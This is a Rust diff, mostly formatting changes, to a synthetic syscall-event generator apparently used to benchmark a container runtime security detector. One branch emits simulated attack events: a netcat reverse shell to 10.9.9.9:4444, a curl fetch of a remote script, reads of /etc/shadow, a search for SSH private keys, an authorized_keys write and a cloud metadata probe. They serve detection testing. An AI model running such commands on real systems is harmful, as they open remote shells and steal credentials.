@@ -4,7 +4,9 @@
 //!
 //! Used by benchmarks and by the pipeline's synthetic source. Pure computation: no I/O.
 
-use crate::context::{ContainerInfo, FdInfo, FdKind, ProcessInfo, SocketRole, UserInfo, HOST_CONTAINER_ID};
+use crate::context::{
+    ContainerInfo, FdInfo, FdKind, ProcessInfo, SocketRole, UserInfo, HOST_CONTAINER_ID,
+};
 use crate::event::Event;
 use crate::flags::open;
 use crate::params::{L4Proto, ParamValue, SockAddr, SockTuple};
@@ -31,7 +33,7 @@ impl Rng {
 
     /// Uniform in `0..n` (n > 0).
     pub fn below(&mut self, n: usize) -> usize {
-        ((self.next_u64() >> 32) * n as u64 >> 32) as usize
+        (((self.next_u64() >> 32) * n as u64) >> 32) as usize
     }
 
     pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
@@ -90,11 +92,26 @@ impl Default for SynthConfig {
 
 const IMAGES: &[(&str, &str, &str, Role)] = &[
     ("docker.io/library/nginx", "1.27", "nginx", Role::WebServer),
-    ("docker.io/library/postgres", "16", "postgres", Role::Database),
-    ("docker.io/library/redis", "7.2", "redis-server", Role::Database),
+    (
+        "docker.io/library/postgres",
+        "16",
+        "postgres",
+        Role::Database,
+    ),
+    (
+        "docker.io/library/redis",
+        "7.2",
+        "redis-server",
+        Role::Database,
+    ),
     ("ghcr.io/acme/checkout-api", "v3.4.1", "java", Role::App),
     ("ghcr.io/acme/frontend", "2.0.0", "node", Role::App),
-    ("docker.io/library/python", "3.12-slim", "python3", Role::App),
+    (
+        "docker.io/library/python",
+        "3.12-slim",
+        "python3",
+        Role::App,
+    ),
     ("docker.io/aquasec/trivy", "0.58.0", "trivy", Role::Agent),
     ("quay.io/minio/minio", "latest", "minio", Role::App),
     ("docker.io/library/alpine", "3.20", "sh", Role::Shell),
@@ -160,7 +177,11 @@ fn user(uid: u32, name: &str) -> Arc<UserInfo> {
     Arc::new(UserInfo {
         uid,
         name: name.into(),
-        homedir: if uid == 0 { "/root".into() } else { format!("/home/{name}").into() },
+        homedir: if uid == 0 {
+            "/root".into()
+        } else {
+            format!("/home/{name}").into()
+        },
         shell: "/bin/bash".into(),
     })
 }
@@ -199,17 +220,61 @@ impl Generator {
             cap_permitted: u64::MAX >> 23,
             ..Default::default()
         });
-        let sshd = self.spawn_info(&init, "sshd", "/usr/sbin/sshd", &["-D"], root.clone(), HOST_CONTAINER_ID, 0);
+        let sshd = self.spawn_info(
+            &init,
+            "sshd",
+            "/usr/sbin/sshd",
+            &["-D"],
+            root.clone(),
+            HOST_CONTAINER_ID,
+            0,
+        );
         let admin = user(1000, "admin");
-        let bash = self.spawn_info(&sshd, "bash", "/usr/bin/bash", &[], admin, HOST_CONTAINER_ID, 34816);
-        self.procs.push(Proc { info: bash, container: None, role: Role::Shell, fds: Vec::new() });
-        let shim_parent = self.spawn_info(&init, "containerd", "/usr/bin/containerd", &[], root.clone(), HOST_CONTAINER_ID, 0);
-        let agent = self.spawn_info(&init, "node_exporter", "/usr/bin/node_exporter", &[], root.clone(), HOST_CONTAINER_ID, 0);
-        self.procs.push(Proc { info: agent, container: None, role: Role::Agent, fds: Vec::new() });
+        let bash = self.spawn_info(
+            &sshd,
+            "bash",
+            "/usr/bin/bash",
+            &[],
+            admin,
+            HOST_CONTAINER_ID,
+            34816,
+        );
+        self.procs.push(Proc {
+            info: bash,
+            container: None,
+            role: Role::Shell,
+            fds: Vec::new(),
+        });
+        let shim_parent = self.spawn_info(
+            &init,
+            "containerd",
+            "/usr/bin/containerd",
+            &[],
+            root.clone(),
+            HOST_CONTAINER_ID,
+            0,
+        );
+        let agent = self.spawn_info(
+            &init,
+            "node_exporter",
+            "/usr/bin/node_exporter",
+            &[],
+            root.clone(),
+            HOST_CONTAINER_ID,
+            0,
+        );
+        self.procs.push(Proc {
+            info: agent,
+            container: None,
+            role: Role::Agent,
+            fds: Vec::new(),
+        });
 
         for c in 0..self.cfg.containers {
             let (repo, tag, main, role) = IMAGES[c % IMAGES.len()];
-            let full_id: String = (0..64).map(|_| char::from(b"0123456789abcdef"[self.rng.below(16)])).collect();
+            let full_id: String = (0..64)
+                .map(|_| char::from(b"0123456789abcdef"[self.rng.below(16)]))
+                .collect();
             let short = &full_id[..12];
             let cname = format!("{}-{}", repo.rsplit('/').next().unwrap_or("app"), c);
             let container = Arc::new(ContainerInfo {
@@ -226,15 +291,37 @@ impl Generator {
                 k8s_ns_name: Some(if c % 3 == 0 { "prod" } else { "default" }.into()),
                 ..Default::default()
             });
-            let shim = self.spawn_info(&shim_parent, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", &["-namespace", "k8s.io"], root.clone(), HOST_CONTAINER_ID, 0);
+            let shim = self.spawn_info(
+                &shim_parent,
+                "containerd-shim",
+                "/usr/bin/containerd-shim-runc-v2",
+                &["-namespace", "k8s.io"],
+                root.clone(),
+                HOST_CONTAINER_ID,
+                0,
+            );
             let uid = if role == Role::Database { 999 } else { 0 };
-            let u = if uid == 0 { root.clone() } else { user(uid, "postgres") };
+            let u = if uid == 0 {
+                root.clone()
+            } else {
+                user(uid, "postgres")
+            };
             let exe = format!("/usr/bin/{main}");
             let server = self.spawn_info(&shim, main, &exe, &[], u.clone(), short, 0);
-            self.procs.push(Proc { info: server.clone(), container: Some(container.clone()), role, fds: Vec::new() });
+            self.procs.push(Proc {
+                info: server.clone(),
+                container: Some(container.clone()),
+                role,
+                fds: Vec::new(),
+            });
             // A worker child per server, so ancestry has depth.
             let worker = self.spawn_info(&server, main, &exe, &["worker"], u, short, 0);
-            self.procs.push(Proc { info: worker, container: Some(container), role, fds: Vec::new() });
+            self.procs.push(Proc {
+                info: worker,
+                container: Some(container),
+                role,
+                fds: Vec::new(),
+            });
         }
     }
 
@@ -265,7 +352,10 @@ impl Generator {
             exepath: exepath.into(),
             args: args.iter().map(|s| s.to_string()).collect(),
             cwd: if in_container { "/" } else { "/home/admin" }.into(),
-            env: vec!["PATH=/usr/local/bin:/usr/bin:/bin".into(), format!("HOME={}", user.homedir)],
+            env: vec![
+                "PATH=/usr/local/bin:/usr/bin:/bin".into(),
+                format!("HOME={}", user.homedir),
+            ],
             tty,
             loginuid: if tty != 0 { 1000 } else { u32::MAX },
             uid: user.uid,
@@ -273,7 +363,9 @@ impl Generator {
             user: Some(user),
             cap_effective: if in_container { 0xa80425fb } else { 0 },
             cap_permitted: if in_container { 0xa80425fb } else { 0 },
-            start_ts: self.ts.saturating_sub(1_000_000_000 * (1 + self.rng.below(86_400) as u64)),
+            start_ts: self
+                .ts
+                .saturating_sub(1_000_000_000 * (1 + self.rng.below(86_400) as u64)),
             container_id: container_id.into(),
             parent: Some(parent.clone()),
             ..Default::default()
@@ -341,14 +433,21 @@ impl Generator {
         let (path, flags) = match self.rng.below(10) {
             0..=3 => (*self.rng.pick(LIBS), open::O_RDONLY | open::O_CLOEXEC),
             4..=7 => (*self.rng.pick(READS), open::O_RDONLY),
-            _ => (*self.rng.pick(WRITES), open::O_WRONLY | open::O_CREAT | open::O_APPEND),
+            _ => (
+                *self.rng.pick(WRITES),
+                open::O_WRONLY | open::O_CREAT | open::O_APPEND,
+            ),
         };
         self.open_path(idx, path, flags)
     }
 
     fn open_path(&mut self, idx: usize, path: &str, flags: u64) -> Event {
         let (num, fd) = self.file_fd(idx, path, flags);
-        let etype = if self.rng.chance(900) { EventType::OPENAT } else { EventType::OPEN };
+        let etype = if self.rng.chance(900) {
+            EventType::OPENAT
+        } else {
+            EventType::OPEN
+        };
         let params = if etype == EventType::OPENAT {
             vec![
                 ParamValue::Int(num),
@@ -377,7 +476,12 @@ impl Generator {
     fn close(&mut self, idx: usize) -> Event {
         let fd = self.procs[idx].fds.pop();
         let num = fd.as_ref().map(|f| f.num).unwrap_or(3);
-        let mut ev = Event::new(EventType::CLOSE, 0, 0, vec![ParamValue::Int(0), ParamValue::Int(num)]);
+        let mut ev = Event::new(
+            EventType::CLOSE,
+            0,
+            0,
+            vec![ParamValue::Int(0), ParamValue::Int(num)],
+        );
         ev.fd = fd;
         ev
     }
@@ -404,7 +508,11 @@ impl Generator {
 
     fn connect(&mut self, idx: usize) -> Event {
         let (dip, dport) = match self.procs[idx].role {
-            Role::App => *self.rng.pick(&[([10, 0, 3, 17], 5432), ([10, 0, 4, 2], 6379), ([10, 96, 0, 1], 443)]),
+            Role::App => *self.rng.pick(&[
+                ([10, 0, 3, 17], 5432),
+                ([10, 0, 4, 2], 6379),
+                ([10, 96, 0, 1], 443),
+            ]),
             Role::WebServer => ([10, 0, 5, 9], 8080),
             Role::Agent => ([10, 96, 0, 1], 443),
             _ => ([93, 184, 216, 34], 443),
@@ -415,7 +523,13 @@ impl Generator {
 
     fn connect_to(&mut self, idx: usize, dip: IpAddr, dport: u16, proto: L4Proto) -> Event {
         let sport = 32768 + self.rng.below(28000) as u16;
-        let tuple = SockTuple::Inet { proto, sip: IpAddr::V4(Ipv4Addr::new(10, 1, 2, 3)), sport, dip, dport };
+        let tuple = SockTuple::Inet {
+            proto,
+            sip: IpAddr::V4(Ipv4Addr::new(10, 1, 2, 3)),
+            sport,
+            dip,
+            dport,
+        };
         let (num, fd) = self.inet_fd(idx, tuple.clone(), SocketRole::Client);
         let mut ev = Event::new(
             EventType::CONNECT,
@@ -425,7 +539,10 @@ impl Generator {
                 ParamValue::Int(0),
                 ParamValue::Tuple(tuple),
                 ParamValue::Int(num),
-                ParamValue::Addr(SockAddr::Inet { ip: dip, port: dport }),
+                ParamValue::Addr(SockAddr::Inet {
+                    ip: dip,
+                    port: dport,
+                }),
             ],
         );
         ev.fd = Some(fd);
@@ -438,7 +555,12 @@ impl Generator {
             Role::WebServer => 80,
             _ => 8080,
         };
-        let cip = IpAddr::V4(Ipv4Addr::new(10, 0, self.rng.below(8) as u8, self.rng.below(250) as u8 + 1));
+        let cip = IpAddr::V4(Ipv4Addr::new(
+            10,
+            0,
+            self.rng.below(8) as u8,
+            self.rng.below(250) as u8 + 1,
+        ));
         let tuple = SockTuple::Inet {
             proto: L4Proto::Tcp,
             sip: cip,
@@ -447,7 +569,11 @@ impl Generator {
             dport: port,
         };
         let (num, fd) = self.inet_fd(idx, tuple.clone(), SocketRole::Server);
-        let etype = if self.rng.chance(500) { EventType::ACCEPT4 } else { EventType::ACCEPT };
+        let etype = if self.rng.chance(500) {
+            EventType::ACCEPT4
+        } else {
+            EventType::ACCEPT
+        };
         let mut params = vec![
             ParamValue::Int(num),
             ParamValue::Tuple(tuple),
@@ -464,7 +590,12 @@ impl Generator {
     }
 
     fn send_recv(&mut self, idx: usize) -> Event {
-        let fd = self.procs[idx].fds.iter().rev().find(|f| f.kind.is_socket()).cloned();
+        let fd = self.procs[idx]
+            .fds
+            .iter()
+            .rev()
+            .find(|f| f.kind.is_socket())
+            .cloned();
         let num = fd.as_ref().map(|f| f.num).unwrap_or(5);
         let tuple = fd.as_ref().and_then(|f| f.tuple.clone());
         let size = 64 + self.rng.below(1400) as u64;
@@ -502,7 +633,15 @@ impl Generator {
         let parent = self.procs[idx].info.clone();
         let user = parent.user.clone().unwrap_or_else(|| user(0, "root"));
         let exepath = format!("/usr/bin/{name}");
-        let child = self.spawn_info(&parent, name, &exepath, args, user, &parent.container_id.clone(), parent.tty);
+        let child = self.spawn_info(
+            &parent,
+            name,
+            &exepath,
+            args,
+            user,
+            &parent.container_id.clone(),
+            parent.tty,
+        );
         let mut argv = vec![name.to_string()];
         argv.extend(args.iter().map(|s| s.to_string()));
         let params = vec![
@@ -532,7 +671,13 @@ impl Generator {
             EventType::SOCKET,
             0,
             0,
-            vec![ParamValue::Int(num), ParamValue::Uint(2), ParamValue::Uint(1), ParamValue::Uint(6), ParamValue::Uint(0)],
+            vec![
+                ParamValue::Int(num),
+                ParamValue::Uint(2),
+                ParamValue::Uint(1),
+                ParamValue::Uint(6),
+                ParamValue::Uint(0),
+            ],
         )
     }
 
@@ -544,7 +689,12 @@ impl Generator {
                 EventType::UNLINKAT,
                 0,
                 0,
-                vec![ParamValue::Int(0), ParamValue::Int(-100), ParamValue::Str(path.into()), ParamValue::Uint(0)],
+                vec![
+                    ParamValue::Int(0),
+                    ParamValue::Int(-100),
+                    ParamValue::Str(path.into()),
+                    ParamValue::Uint(0),
+                ],
             )
         } else {
             Event::new(
@@ -582,7 +732,12 @@ impl Generator {
             EventType::MKDIRAT,
             0,
             0,
-            vec![ParamValue::Int(0), ParamValue::Int(-100), ParamValue::Str(format!("/tmp/build-{n}")), ParamValue::Uint(0o755)],
+            vec![
+                ParamValue::Int(0),
+                ParamValue::Int(-100),
+                ParamValue::Str(format!("/tmp/build-{n}")),
+                ParamValue::Uint(0o755),
+            ],
         )
     }
 
@@ -591,7 +746,12 @@ impl Generator {
             EventType::FCHMODAT,
             0,
             0,
-            vec![ParamValue::Int(0), ParamValue::Int(-100), ParamValue::Str("/tmp/run.sh".into()), ParamValue::Uint(0o755)],
+            vec![
+                ParamValue::Int(0),
+                ParamValue::Int(-100),
+                ParamValue::Str("/tmp/run.sh".into()),
+                ParamValue::Uint(0o755),
+            ],
         )
     }
 
@@ -621,8 +781,17 @@ impl Generator {
             0 => self.open_path(idx, "/etc/shadow", open::O_RDONLY),
             1 => self.exec(idx, Some(("bash", &["-i"]))),
             2 => self.exec(idx, Some(("nc", &["-e", "/bin/sh", "10.9.9.9", "4444"]))),
-            3 => self.connect_to(idx, IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254)), 80, L4Proto::Tcp),
-            4 => self.open_path(idx, "/root/.ssh/authorized_keys", open::O_WRONLY | open::O_APPEND),
+            3 => self.connect_to(
+                idx,
+                IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254)),
+                80,
+                L4Proto::Tcp,
+            ),
+            4 => self.open_path(
+                idx,
+                "/root/.ssh/authorized_keys",
+                open::O_WRONLY | open::O_APPEND,
+            ),
             5 => self.exec(idx, Some(("find", &["/", "-name", "id_rsa"]))),
             6 => self.open_path(idx, "/usr/bin/evil", open::O_WRONLY | open::O_CREAT),
             _ => self.exec(idx, Some(("curl", &["-fsSL", "http://10.9.9.9/x.sh"]))),
@@ -645,13 +814,22 @@ mod tests {
 
     #[test]
     fn deterministic_for_a_seed() {
-        let a: Vec<_> = Generator::new(SynthConfig::default()).take(500).map(|e| (e.etype, e.tid)).collect();
-        let b: Vec<_> = Generator::new(SynthConfig::default()).take(500).map(|e| (e.etype, e.tid)).collect();
-        assert_eq!(a, b);
-        let c: Vec<_> = Generator::new(SynthConfig { seed: 2, ..Default::default() })
+        let a: Vec<_> = Generator::new(SynthConfig::default())
             .take(500)
             .map(|e| (e.etype, e.tid))
             .collect();
+        let b: Vec<_> = Generator::new(SynthConfig::default())
+            .take(500)
+            .map(|e| (e.etype, e.tid))
+            .collect();
+        assert_eq!(a, b);
+        let c: Vec<_> = Generator::new(SynthConfig {
+            seed: 2,
+            ..Default::default()
+        })
+        .take(500)
+        .map(|e| (e.etype, e.tid))
+        .collect();
         assert_ne!(a, c);
     }
 
@@ -663,7 +841,10 @@ mod tests {
             assert!(ev.params.len() <= ev.etype.params().len(), "{:?}", ev.etype);
             let p = ev.process.as_ref().expect("every event has a process");
             assert_eq!(p.tid, ev.tid);
-            assert_eq!(ev.container.is_some(), &*p.container_id != HOST_CONTAINER_ID);
+            assert_eq!(
+                ev.container.is_some(),
+                &*p.container_id != HOST_CONTAINER_ID
+            );
             types.insert(ev.etype);
         }
         assert!(types.len() >= 15, "a realistic mix, got {}", types.len());
